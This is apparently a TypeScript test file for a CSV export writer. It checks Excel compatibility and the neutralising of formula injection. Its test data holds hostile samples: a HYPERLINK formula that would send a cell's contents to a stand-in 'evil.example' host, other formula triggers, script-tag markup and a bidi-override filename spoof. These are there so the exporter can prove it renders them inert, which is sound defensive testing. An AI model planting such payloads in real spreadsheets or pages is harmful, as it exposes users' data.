// The inbox's CSV writer (server/inbox/csv.ts) on its own: what Excel needs (the BOM at byte 0, CRLF
// records, RFC 4180 quoting) and formula injection neutralised (OWASP): every cell a spreadsheet could
// run gets a leading apostrophe, nothing else changes; written batch by batch (the export's pages), the
// same file as in one go. Parsed back by csv-parse, an independent reader.
import t from 'tap'
import { parse } from 'csv-parse/sync'
import { csvCell, csvFile, looksLikeFormula, neutralise } from '../../../server/inbox/csv'

const readBack = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false })

type Rows = (string | number | null)[][]
async function* batches(...list: Rows[]) {
  yield* list
}
/** The whole file csvFile writes, its rows given in `list`'s batches. */
async function toCsv(header: string[], ...list: Rows[]): Promise<string> {
  let text = ''
  for await (const part of csvFile(header, batches(...list))) text += part
  return text
}

t.test('the BOM is the first three bytes; records end with CRLF; every cell quoted', async (t) => {
  const file = await toCsv(['受付番号', 'お名前'], [['Q-1', '山田 太郎'], ['Q-2', 'Jane']])
  const bytes = Buffer.from(file, 'utf8')
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'EF BB BF at byte 0')
  t.equal(file.slice(1), '"受付番号","お名前"\r\n"Q-1","山田 太郎"\r\n"Q-2","Jane"\r\n')
  t.notOk(/[^\r]\n/.test(file), 'no bare LF between records')
  t.same(readBack(file), [['受付番号', 'お名前'], ['Q-1', '山田 太郎'], ['Q-2', 'Jane']])
  t.equal(await toCsv(['受付番号', 'お名前'], [['Q-1', '山田 太郎']], [], [['Q-2', 'Jane']]), file, 'written batch by batch: the same file')
  t.equal(await toCsv(['受付番号']), '\uFEFF"受付番号"\r\n', 'no rows: the BOM and the header')
})

t.test('quotes, commas, semicolons and line breaks stay inside their cell', async (t) => {
  const cells = ['佐藤, "花子"', 'a;b', '一行目\n二行目\r\n三行目', '"', '', 'tab\tinside']
  const file = await toCsv(['x', 'y', 'z', 'q', 'e', 't'], [cells])
  t.equal(csvCell('say "hi"'), '"say ""hi"""')
  t.same(readBack(file)[1], cells, 'parsed back exactly')
  t.equal(csvCell(null), '""')
  t.equal(csvCell(42), '"42"')
})

t.test('formula cells are neutralised with an apostrophe, and only those', async (t) => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=1+1',
    '+81 90-1234-5678', // a phone number in international form: neutralised too (decided: every + is)
    '-2+3',
    '- called back on Monday',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '\tplain after a tab',
    '\rplain after a CR',
    ' =1+1', // after leading white space: some spreadsheets trim it before deciding
    '\n=1+1',
    '\u3000=1+1', // an ideographic space
    '＝１＋１', // full-width forms, as a Japanese input method types them
    '＋８１',
    '－１',
    '＠SUM(A1)',
  ]
  for (const text of formulas) {
    t.ok(looksLikeFormula(text), JSON.stringify(text))
    t.equal(neutralise(text), `'${text}`, `${JSON.stringify(text)}: the apostrophe, the rest as it was`)
  }
  const plain = ['03-1234-5678', '山田=太郎', 'a+b', 'mail@example.com', "'already quoted", '', 'HYPERLINK', ' plain', '1=1', '(+81) 90']
  for (const text of plain) {
    t.notOk(looksLikeFormula(text), JSON.stringify(text))
    t.equal(neutralise(text), text)
  }
  const file = await toCsv(['a', 'b'], [[formulas[0]!, '+81 90-1234-5678']])
  t.same(readBack(file)[1], [`'${formulas[0]}`, "'+81 90-1234-5678"], 'parsed back: the apostrophe and the exact text')
  t.match(file, /"'=HYPERLINK\(""http/, 'quoted, its quotes doubled, after the apostrophe')
})

t.test('hostile text survives intact and inert: markup, bidi overrides, controls, 10,000 characters', async (t) => {
  const hostile = [
    '<script>alert(1)</script><img src=x onerror=alert(2)>',
    'invoice\u202Etxt.exe',
    'ESC\u001b[31mred\u0007 NUL\u0000 DEL\u007f',
    'あ'.repeat(10_000),
    '"quoted", and\r\nmore',
  ]
  const file = await toCsv(['h'], hostile.map((h) => [h]))
  const back = readBack(file).slice(1).map((r) => r[0])
  t.same(back, hostile, 'every cell exactly as given')
  t.equal(back[3]!.length, 10_000)
})
